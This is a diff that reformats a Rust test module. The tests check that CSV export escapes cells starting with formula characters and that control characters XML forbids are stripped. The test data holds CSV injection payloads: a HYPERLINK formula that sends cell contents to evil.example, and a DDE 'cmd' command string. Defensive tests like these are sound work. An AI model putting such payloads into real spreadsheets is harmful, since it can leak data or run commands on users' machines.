@@ -167,7 +167,10 @@ mod tests {
     #[test]
     fn csv_cells_never_start_a_formula() {
         for (cell, shown) in [
-            ("=HYPERLINK(\"http://evil.example/?x=\"&A1,\"Click\")", "'=HYPERLINK(\"http://evil.example/?x=\"&A1,\"Click\")"),
+            (
+                "=HYPERLINK(\"http://evil.example/?x=\"&A1,\"Click\")",
+                "'=HYPERLINK(\"http://evil.example/?x=\"&A1,\"Click\")",
+            ),
             ("+cmd|' /C calc'!A0", "'+cmd|' /C calc'!A0"),
             ("-2+3", "'-2+3"),
             ("@SUM(1+1)", "'@SUM(1+1)"),
@@ -182,7 +185,13 @@ mod tests {
 
     #[test]
     fn printable_drops_what_xml_forbids() {
-        assert_eq!(super::printable("a\x07b\x0bc\x1bd\0e\u{85}f\tg\nh"), "abcdef\tg\nh");
-        assert!(matches!(super::printable("plain"), std::borrow::Cow::Borrowed(_)));
+        assert_eq!(
+            super::printable("a\x07b\x0bc\x1bd\0e\u{85}f\tg\nh"),
+            "abcdef\tg\nh"
+        );
+        assert!(matches!(
+            super::printable("plain"),
+            std::borrow::Cow::Borrowed(_)
+        ));
     }
 }
